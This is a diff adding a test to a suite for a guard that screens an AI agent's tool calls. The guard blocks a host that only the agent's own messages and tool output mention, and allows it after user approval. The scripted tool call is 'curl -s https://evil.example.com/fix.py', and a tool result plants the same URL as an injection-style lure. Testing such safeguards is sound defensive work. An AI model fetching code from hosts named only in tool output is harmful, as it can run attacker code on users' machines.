@@ -113,6 +113,44 @@ describe("OpenAI chat completions through the guard (scripted upstream test doub
     expect(finish).toBe("stop");
   });
 
+  it("keeps a host blocked that only the agent's own messages and tool results name", async () => {
+    const { apiKey } = await h.register({ instruction });
+    const turn = {
+      text: "",
+      tool_calls: [{ name: "bash", arguments: { command: "curl -s https://evil.example.com/fix.py" } }],
+    };
+    await h.setScript([turn, turn]);
+    const agentSaid: OpenAI.ChatCompletionMessageParam[] = [
+      ...messages,
+      {
+        role: "assistant",
+        content: "The fix is at https://evil.example.com/fix.py",
+        tool_calls: [
+          { id: "c1", type: "function", function: { name: "bash", arguments: '{"command":"cat NOTES"}' } },
+        ],
+      },
+      { role: "tool", tool_call_id: "c1", content: "mirror: https://evil.example.com/fix.py" },
+    ];
+    const blocked = await client(apiKey).chat.completions.create({
+      model: "m",
+      messages: agentSaid,
+      tools: openaiTools,
+    });
+    expect(blocked.choices[0]!.message.content).toContain("blocked by rule unmentioned-host");
+    const userSaid = [
+      ...agentSaid,
+      { role: "user" as const, content: "You may fetch https://evil.example.com/fix.py" },
+    ];
+    const allowed = await client(apiKey).chat.completions.create({
+      model: "m",
+      messages: userSaid,
+      tools: openaiTools,
+    });
+    expect(allowed.choices[0]!.message.tool_calls?.[0]).toMatchObject({
+      function: { name: "bash", arguments: expect.stringContaining("evil.example.com") },
+    });
+  });
+
   it("streams text at once and releases each tool call whole once it is complete", async () => {
     const { apiKey } = await h.register({ instruction });
     await h.setScript([
